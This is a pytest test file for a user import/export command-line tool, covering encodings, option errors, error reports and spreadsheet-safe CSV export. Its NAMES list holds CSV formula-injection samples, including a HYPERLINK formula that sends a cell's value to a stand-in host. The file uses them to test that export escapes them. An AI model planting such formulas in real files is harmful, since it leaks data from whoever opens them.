"""roster users import and export with files of other programs: options and messages."""

import csv
import io
import json
import os
import stat
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from click.testing import Result
from roster_process import ROSTER

Roster = Callable[..., Result]
Write = Callable[[str, str | bytes], str]
Directory = Callable[[], list[tuple[Any, ...]]]
BadLines = Callable[[Result], list[tuple[int, str]]]

GERMAN = "Email Address;Full Name;Active;Department\r\nann@x.test;Ann, Dr.;TRUE;Büro\r\n"
MAPPED = (
    *("--column", "email=email address", "--column", "name=Full Name"),
    *("--column", "is_active=Active", "--ignore-unknown"),
)


@pytest.mark.parametrize(
    ("data", "options"),
    [
        (GERMAN.encode("utf-8-sig"), ()),
        (GERMAN.encode("cp1252"), ("--encoding", "windows-1252")),
        (GERMAN.replace(";", "\t").encode("utf-16"), ()),
        (GERMAN.replace(";", "|").encode(), ("--delimiter", "|")),
        (GERMAN.replace(";", "\t").encode(), ("--delimiter", "tab")),
    ],
)
def test_files_of_spreadsheet_programs_are_imported(
    roster: Roster, write: Write, directory: Directory, data: bytes, options: tuple[str, ...]
) -> None:
    result = roster("users", "import", write("people.csv", data), *MAPPED, *options)
    assert result.exit_code == 0, result.stderr
    assert directory() == [("ann@x.test", "Ann, Dr.", True, "user")]


def test_the_options_apply_to_standard_input(sqlite_url: str, roster: Roster) -> None:
    done = subprocess.run(
        [ROSTER, "users", "import", "-", *MAPPED, "--encoding", "cp1252"],
        input=GERMAN.encode("cp1252"),
        env=os.environ | {"ROSTER_DATABASE_URL": sqlite_url},
        check=True,
        capture_output=True,
    )
    assert done.stdout.startswith(b"1 created")


@pytest.mark.parametrize("name", ["people.json", "people.jsonl"])
def test_a_json_array_is_imported_and_its_items_are_numbered(
    roster: Roster, write: Write, directory: Directory, bad_lines: BadLines, name: str
) -> None:
    array = [{"Email": f"u{n}@x.test", "name": "U" * (n != 2), "shoe": 44} for n in (1, 2, 3)]
    file = write(name, json.dumps(array))
    assert [code for _, code in bad_lines(roster("users", "import", file))] == [
        "shoe: unknown_attribute",
        "name: blank",
        "shoe: unknown_attribute",
        "shoe: unknown_attribute",
    ]
    result = roster("users", "import", file, "--ignore-unknown", "--skip-errors")
    problem = "must contain at least one visible character (item 2)"
    assert result.stderr == f"line 1: name: blank: {problem}\n"
    assert [email for email, *_ in directory()] == ["u1@x.test", "u3@x.test"]


@pytest.mark.parametrize(
    ("options", "message"),
    [
        (("--encoding", "klingon"), "'klingon' is not a known encoding."),
        (("--encoding", "base64"), "'base64' is not a known encoding."),
        (("--encoding", "punycode"), "'punycode' is not a known encoding."),
        (("--delimiter", ";;"), "must be the word tab, or one character"),
        (("--delimiter", '"'), "must be the word tab, or one character"),
        (("--format", "jsonl", "--delimiter", ";"), "--delimiter applies only to CSV"),
        (("--column", "email"), "'email' is not ATTR=HEADER."),
        (("--column", "email= "), "'email= ' is not ATTR=HEADER."),
        (("--column", "emial=Mail"), "'emial' is not an attribute to import. Did you mean email?"),
        (("--column", "id=Number"), "Known: email, name, is_active, role, password_hash."),
        (("--column", "name=A", "--column", "name=B"), "name is mapped to two columns."),
        (("--column", "name=A", "--column", "role= a"), "is mapped to two attributes."),
    ],
)
def test_an_invalid_option_is_wrong_usage(
    roster: Roster, write: Write, options: tuple[str, ...], message: str
) -> None:
    result = roster("users", "import", write("people.csv", "email,name\n"), *options)
    assert result.exit_code == 2
    assert message in result.stderr


@pytest.mark.parametrize("name", ["people.xlsx", "people.csv", "people.ods", "people.json"])
def test_a_workbook_is_rejected_in_one_line(roster: Roster, write: Write, name: str) -> None:
    result = roster("users", "import", write(name, b"PK\x03\x04" + os.urandom(5000)))
    assert (result.exit_code, result.stdout) == (1, "")
    assert result.stderr == (
        "Error: not_text: the file is a workbook of a spreadsheet program (such as .xlsx or .ods)"
        " or another ZIP archive. Open it in its program, save it as CSV, and import that file.\n"
    )


def test_the_cause_of_undecodable_rows_is_printed_once(
    roster: Roster, write: Write, bad_lines: BadLines, directory: Directory
) -> None:
    rows = "".join(f"u{n}@x.test,Ü\n" for n in range(30))
    file = write("people.csv", ("email,name\na@x.test,A\n" + rows).encode("latin-1"))
    result = roster("users", "import", file, "--skip-errors")
    assert result.exit_code == 0
    assert bad_lines(result) == [(line, "not_utf_8") for line in range(3, 23)]
    assert result.stderr.count("--encoding") == 1
    assert "byte 0xdc at offset 32 (line 3)" in result.stderr
    assert "10 more invalid records." in result.stderr
    assert "       30  not_utf_8" in result.stderr
    assert roster("users", "import", file, "--update", "--encoding", "latin-1").exit_code == 0
    assert len(directory()) == 31


@pytest.mark.usefixtures("open_umask")
def test_twenty_invalid_records_are_printed_and_all_are_counted(
    roster: Roster, write: Write, bad_lines: BadLines, tmp_path: Path
) -> None:
    rows = "".join(
        f"u{n}@x.test,{'' if n % 10 == 0 else 'U'},{'maybe' if n % 2 else 'yes'}\n"
        for n in range(1000)
    )
    file, bad = write("people.csv", "email,name,is_active\n" + rows), tmp_path / "bad.csv"
    result = roster("users", "import", file, "--errors", str(bad))
    assert result.exit_code == 1
    listed = bad_lines(result)
    assert len({line for line, _ in listed}) == 20
    assert result.stderr.splitlines()[len(listed) :] == [
        "580 more invalid records. All errors by attribute and code:",
        "      500  is_active: wrong_type",
        "      100  name: missing",
        "Error: import_refused: 600 of 1,000 records are bad; nothing was imported.",
    ]
    assert len(bad.read_text().splitlines()) == 601
    assert stat.S_IMODE(bad.stat().st_mode) == 0o600
    again = roster("users", "import", str(bad), "--errors", str(tmp_path / "worse.csv"))
    assert again.stdout == "0 created, 0 changed, 0 unchanged, 600 bad\n"


def test_the_number_of_printed_errors_is_bounded(roster: Roster, write: Write) -> None:
    lines = "".join(json.dumps({f"k{n}": 1}) + "\n" for n in range(500))
    result = roster("users", "import", write("people.jsonl", lines))
    assert "      500  email: missing" in result.stderr
    assert len(result.stderr.splitlines()) < 20 * 3 + 60
    assert "(other attributes): unknown_attribute" in result.stderr


@pytest.mark.parametrize("name", ["people.csv", "people.jsonl"])
def test_update_only_creates_no_user(
    roster: Roster, write: Write, directory: Directory, bad_lines: BadLines, name: str
) -> None:
    roster("users", "create", "--email", "ann@x.test", "--name", "Ann")
    text = "email,name,is_active\nANN@x.test,Anne,true\nanm@x.test,Ann,true\n,Ann,true\n"
    if name.endswith("jsonl"):
        rows = list(csv.DictReader(io.StringIO(text)))
        objects = [{k: v or None for k, v in row.items()} | {"is_active": True} for row in rows]
        del objects[2]["email"]
        text = "".join(json.dumps(each) + "\n" for each in objects)
    first = 1 if name.endswith("jsonl") else 2
    file = write(name, text)
    refused = roster("users", "import", file, "--update-only")
    assert refused.exit_code == 1
    assert bad_lines(refused) == [
        (first + 1, "email: user_not_found"),
        (first + 2, "email: missing"),
    ]
    assert "there is no user with this email" in refused.stderr
    assert directory() == [("ann@x.test", "Ann", False, "user")]
    done = roster("users", "import", file, "--update-only", "--skip-errors")
    assert done.stdout == "0 created, 1 changed, 0 unchanged, 2 bad\n"
    assert directory() == [("ANN@x.test", "Anne", True, "user")]


def test_an_empty_cell_keeps_the_value_or_sets_the_default(
    roster: Roster, write: Write, directory: Directory
) -> None:
    header = "email,name,is_active,role\n"
    created = roster("users", "import", write("a.csv", header + "a@x.test,A,yes,admin\n"))
    assert created.exit_code == 0
    rows = "a@x.test,,,\nb@x.test,B,,\n"
    result = roster("users", "import", write("b.csv", header + rows), "--update")
    assert result.stdout == "1 created, 0 changed, 1 unchanged, 0 bad\n"
    assert directory() == [("a@x.test", "A", True, "admin"), ("b@x.test", "B", False, "user")]


NAMES = [
    *('=HYPERLINK("http://x.test/?"&A1,"Ann")', "+1", "-1", "@x", " =1", "＝1", "'=1", "''=1"),
    *("007", "1e5", "true", "'68", "'t Hooft", "O'Hara", "Ann"),
]


@pytest.fixture
def odd(roster: Roster, write: Write) -> None:
    """Users with names that spreadsheets would evaluate or convert, and some others."""
    users = ({"email": f"u{n}@x.test", "name": name} for n, name in enumerate(NAMES))
    lines = "".join(json.dumps(user) + "\n" for user in users)
    assert roster("users", "import", write("odd.jsonl", lines)).exit_code == 0


@pytest.mark.usefixtures("odd")
def test_an_export_for_spreadsheets_escapes_formulas_and_reports_it(
    roster: Roster, tmp_path: Path
) -> None:
    file = tmp_path / "people.csv"
    result = roster("users", "export", str(file), "--for-spreadsheets")
    assert result.exit_code == 0
    assert result.stderr == (
        "12 cells begin with an additional apostrophe, so that spreadsheet programs do not change "
        "them.\n"
    )
    names = [row["name"] for row in csv.DictReader(io.StringIO(file.read_text(), newline=""))]
    assert names == [f"'{name}" for name in NAMES[:12]] + NAMES[12:]
    assert stat.S_IMODE(file.stat().st_mode) == 0o600


@pytest.mark.usefixtures("odd")
@pytest.mark.parametrize("options", [(), ("--for-spreadsheets",), ("--for-spreadsheets", "--bom")])
def test_an_export_can_be_imported_unchanged(
    roster: Roster, tmp_path: Path, options: tuple[str, ...]
) -> None:
    file = str(tmp_path / "people.csv")
    assert roster("users", "export", file, *options).exit_code == 0
    again = roster("users", "import", file, "--update")
    assert again.stdout == f"0 created, 0 changed, {len(NAMES)} unchanged, 0 bad\n"


def test_an_export_has_the_chosen_fields(roster: Roster) -> None:
    roster("users", "create", "--email", "ann@x.test", "--name", "Ann", "--active")
    shown = roster("users", "export", "--fields", "role,name")
    assert shown.stdout == "id,name,role\n1,Ann,user\n"
    shown = roster("users", "export", "--fields", "is_active", "--format", "jsonl")
    assert shown.stdout == '{"id":"1","is_active":true}\n'
    wrong = roster("users", "export", "--fields", "shoe")
    assert wrong.exit_code == 2
    assert "shoe" in wrong.stderr
    marked = roster("users", "export", "--bom", "--fields", "name")
    assert marked.stdout_bytes == b"\xef\xbb\xbfid,name\n1,Ann\n"
    for option in ("--bom", "--for-spreadsheets"):
        wrong = roster("users", "export", option, "--format", "jsonl")
        assert (wrong.exit_code, wrong.stdout) == (2, "")
